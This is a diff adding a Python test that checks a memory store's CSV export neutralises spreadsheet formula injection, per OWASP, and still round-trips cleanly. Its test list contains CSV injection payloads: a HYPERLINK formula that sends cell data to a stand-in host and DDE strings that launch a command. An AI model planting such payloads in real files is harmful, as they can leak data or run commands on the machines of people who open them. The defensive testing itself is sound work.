@@ -236,6 +236,38 @@ def test_csv_and_the_filters(vault: Path, tmp_path: Path) -> None:
     assert r.exit_code == 2 and "unknown memory type" in r.output
 
 
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3 is the answer",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted by hand", "Plain = fine"]
+
+
+def test_csv_cells_cannot_start_a_spreadsheet_formula(vault: Path, tmp_path: Path) -> None:
+    """OWASP's CSV injection defence: a cell starting with = + - @ (or tab,
+    CR) gets a leading ' that a spreadsheet shows as text; a cell already
+    starting with ' before one of those gets one more, so `import csv`
+    takes exactly one off and gets the memory back as it was. json is untouched."""
+    with opened(vault) as store:
+        store.sync()
+        for text in FORMULAS:
+            store.add(text, "semantic", tags=["-x"])
+        store.export(ExportOptions(format="csv", output=tmp_path / "m.csv"))
+        store.export(ExportOptions(format="json", output=tmp_path / "m.json"))
+    raw = (tmp_path / "m.csv").read_text("utf-8")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    cells = {x["content"] for x in rows}
+    assert cells == {"'" + t if t[0] in "=+-@" else ("'" + t if t.startswith("'=") else t) for t in FORMULAS}
+    assert all(x["tags"] == "'-x" for x in rows)
+    for row in csv.reader(io.StringIO(raw)):  # no cell of any column starts a formula
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+    assert {m["content"] for m in json.loads((tmp_path / "m.json").read_text("utf-8"))["memory"]} == set(FORMULAS)
+    other = tmp_path / "other"
+    other.mkdir()
+    with opened(other) as store:
+        assert store.import_("csv", tmp_path / "m.csv").imported == len(FORMULAS)
+        store.export(ExportOptions(format="json", output=tmp_path / "back.json"))
+    back = json.loads((tmp_path / "back.json").read_text("utf-8"))["memory"]
+    assert sorted(m["content"] for m in back) == sorted(FORMULAS)
+
+
 def test_a_foreign_json_is_refused_clearly(vault: Path, tmp_path: Path) -> None:
     (tmp_path / "x.json").write_text('{"hello": 1}')
     r = CliRunner().invoke(cli, ["--vault", str(vault), "import", "json", str(tmp_path / "x.json")])
